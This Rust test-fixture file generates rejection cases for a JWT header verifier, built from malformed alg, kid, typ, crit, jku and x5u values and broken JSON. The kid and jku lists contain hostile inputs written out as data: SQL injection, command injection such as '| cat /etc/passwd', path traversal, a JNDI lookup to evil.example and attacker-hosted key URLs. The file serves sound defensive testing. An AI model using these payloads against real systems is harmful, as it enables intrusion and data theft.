//! Headers that must not be believed, under a signature that is right.

use serde_json::{Value, json};

use super::Case;
use crate::fixture::{claims, header, renamed, secret, signed, with, without};

pub fn cases() -> Vec<Case> {
    [algorithms(), key_names(), types(), renamed_members(), foreign_rules(), not_one_object()].concat()
}

fn case(what: impl Into<String>, header: impl AsRef<[u8]>) -> Case {
    Case::new(what, signed(header, claims().to_string()))
}

fn algorithms() -> Vec<Case> {
    let names = [
        "none",
        "None",
        "NONE",
        "nOnE",
        "none ",
        " none",
        "",
        "hs256",
        "Hs256",
        "HS256 ",
        " HS256",
        "HS256\u{0}",
        "HS1",
        "HS384",
        "HS512",
        "RS256",
        "RS384",
        "RS512",
        "PS256",
        "PS384",
        "PS512",
        "ES256",
        "ES256K",
        "ES384",
        "ES512",
        "EdDSA",
        "Ed25519",
        "Ed448",
        "dir",
        "A256GCM",
        "A256KW",
        "RSA-OAEP",
        "RSA1_5",
        "ECDH-ES",
        "PBES2-HS256+A128KW",
        "HMAC",
        "SHA256",
        "HS256,none",
        "ＨＳ256",
    ];
    let values = [json!(null), json!(256), json!(true), json!(["HS256"]), json!({"alg": "HS256"}), json!([])];
    let texts = names.map(|name| case(format!("alg {name:?}"), with(header(), "alg", json!(name))));
    let others = values.map(|value| case(format!("alg {value}"), with(header(), "alg", value)));
    [&texts[..], &others, &[case("no alg", without(header(), "alg"))]].concat()
}

fn key_names() -> Vec<Case> {
    let kid = secret().kid();
    let names = [
        String::new(),
        "unknown".to_owned(),
        "../../../../dev/null".to_owned(),
        "/dev/null".to_owned(),
        "/proc/sys/kernel/randomize_va_space".to_owned(),
        "..\\..\\windows\\win.ini".to_owned(),
        "file:///dev/null".to_owned(),
        "https://evil.example/key".to_owned(),
        "' OR 1=1 --".to_owned(),
        "x' UNION SELECT 'secret".to_owned(),
        "'; DROP TABLE signing_keys; --".to_owned(),
        "| cat /etc/passwd".to_owned(),
        "$(id)".to_owned(),
        "${jndi:ldap://evil.example}".to_owned(),
        "*".to_owned(),
        "%".to_owned(),
        "0".to_owned(),
        "null".to_owned(),
        "__proto__".to_owned(),
        "constructor".to_owned(),
        "k".repeat(4_000),
        format!("{kid} "),
        format!(" {kid}"),
        format!("{kid}\n"),
        format!("{kid}\u{0}"),
        format!("{kid}\u{200b}"),
        format!("{kid}="),
        kid[..15].to_owned(),
        kid.to_uppercase() + "x",
        format!("\u{feff}{kid}"),
        "\u{202e}dik".to_owned(),
        "ｋｉｄ".to_owned(),
        "🔑".to_owned(),
        // Keys of other algorithms: the header's own is HS256.
        "ed".to_owned(),
        "ec".to_owned(),
        "rsa".to_owned(),
    ];
    let values = [json!(null), json!(0), json!(false), json!([kid]), json!({"kid": kid}), json!([])];
    let texts = names.map(|name| {
        let shown: String = name.chars().take(40).collect();
        case(format!("kid {shown:?}"), with(header(), "kid", json!(name)))
    });
    let others = values.map(|value| case(format!("kid {value}"), with(header(), "kid", value)));
    [&texts[..], &others, &[case("no kid", without(header(), "kid"))]].concat()
}

fn types() -> Vec<Case> {
    let values = [
        json!("JWT"),
        json!("jwt"),
        json!("rt+jwt"),
        json!("AT+JWT"),
        json!("at+jwt "),
        json!("at jwt"),
        json!(""),
        json!("application/at+jwt"),
        json!("JOSE"),
        json!("dpop+jwt"),
        json!("logout+jwt"),
        json!("secevent+jwt"),
        json!(null),
        json!(1),
        json!(["at+jwt"]),
        json!({}),
    ];
    let others = values.map(|value| case(format!("typ {value}"), with(header(), "typ", value)));
    [&others[..], &[case("no typ", without(header(), "typ"))]].concat()
}

fn renamed_members() -> Vec<Case> {
    ["alg", "typ", "kid"]
        .into_iter()
        .flat_map(|name| renamed(&header(), name).into_iter().map(move |text| case(format!("{name} renamed"), text)))
        .collect()
}

/// Parameters that would change what is verified or with what, whatever their value.
fn foreign_rules() -> Vec<Case> {
    let jwk = json!({"kty": "oct", "kid": secret().kid(), "k": "YWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWE"});
    let rules: [(&str, Vec<Value>); 9] = [
        ("crit", vec![json!(["exp"]), json!(["b64"]), json!(["alg"]), json!([]), json!("exp"), json!(null), json!({})]),
        ("b64", vec![json!(false), json!(true), json!("false"), json!(0), json!(null)]),
        ("zip", vec![json!("DEF"), json!(""), json!(null)]),
        ("enc", vec![json!("A256GCM"), json!(null)]),
        ("cty", vec![json!("JWT"), json!("JWE"), json!(null)]),
        ("jwk", vec![jwk, json!({}), json!(null), json!("key")]),
        (
            "jku",
            vec![
                json!("https://evil.example/jwks.json"),
                json!("http://localhost:8080/.well-known/jwks.json"),
                json!("file:///etc/passwd"),
                json!(""),
                json!(null),
            ],
        ),
        ("x5u", vec![json!("https://evil.example/x5u"), json!(""), json!(null)]),
        ("x5c", vec![json!(["MIIB"]), json!([]), json!("MIIB"), json!(null)]),
    ];
    let one = |name: &str, value: Value| case(format!("{name} {value}"), with(header(), name, value));
    rules.into_iter().flat_map(|(name, values)| values.into_iter().map(move |value| one(name, value))).collect()
}

/// What is not one JSON object with different members.
fn not_one_object() -> Vec<Case> {
    let good = header().to_string();
    let kid = secret().kid();
    let inner = &good[1..good.len() - 1];
    let nested =
        |open: &str, close: &str, depth| format!("{{{inner},\"x\":{}1{}}}", open.repeat(depth), close.repeat(depth));
    let texts = [
        String::new(),
        " ".to_owned(),
        "null".to_owned(),
        "[]".to_owned(),
        "{}".to_owned(),
        "1".to_owned(),
        "\"HS256\"".to_owned(),
        "true".to_owned(),
        format!("[{good}]"),
        format!("{good}{good}"),
        format!("{good},"),
        format!("{good}x"),
        format!("{good}\u{0}"),
        format!("\u{feff}{good}"),
        format!("{good}//"),
        format!("/**/{good}"),
        good[..good.len() - 1].to_owned(),
        format!("{{{inner},}}"),
        format!("{{,{inner}}}"),
        good.replace('"', "'"),
        format!("{{{inner},\"alg\":\"none\"}}"),
        format!("{{\"alg\":\"none\",{inner}}}"),
        format!("{{{inner},\"alg\":\"HS256\"}}"),
        format!("{{{inner},\"\\u0061lg\":\"none\"}}"),
        format!("{{\"\\u0061lg\":\"none\",{inner}}}"),
        format!("{{{inner},\"kid\":\"{kid}\"}}"),
        format!("{{{inner},\"kid\":\"other\"}}"),
        format!("{{{inner},\"\\u006bid\":\"other\"}}"),
        format!("{{{inner},\"typ\":\"JWT\"}}"),
        format!("{{{inner},\"\\u0074\\u0079\\u0070\":\"JWT\"}}"),
        format!("{{{inner},\"x\":{{\"a\":1,\"a\":2}}}}"),
        format!("{{{inner},\"x\":[{{\"a\":1,\"\\u0061\":2}}]}}"),
        format!("{{{inner},\"x\":1,\"x\":1}}"),
        format!("{{{inner},\"\":1,\"\":1}}"),
        format!("{{{inner},\"\\u0063rit\":[\"exp\"]}}"),
        format!("{{{inner},\"x\":NaN}}"),
        format!("{{{inner},\"x\":01}}"),
        format!("{{{inner},\"x\":1e999}}"),
        format!("{{{inner},\"x\":\"\\ud800\"}}"),
        format!("{{{inner},\"x\":\"\t\"}}"),
        nested("[", "]", 200),
        nested("{\"a\":", "}", 200),
        nested("[", "]", 2_000),
    ];
    let bytes: [&[u8]; 3] = [b"\xff\xfe{\x00", b"{\"alg\":\"HS256\xff\"}", b"\x1f\x8b\x08"];
    let texts = texts.map(|text| case(format!("header {}", text.chars().take(60).collect::<String>()), text));
    [&texts[..], &bytes.map(|bytes| case(format!("header {bytes:?}"), bytes))].concat()
}
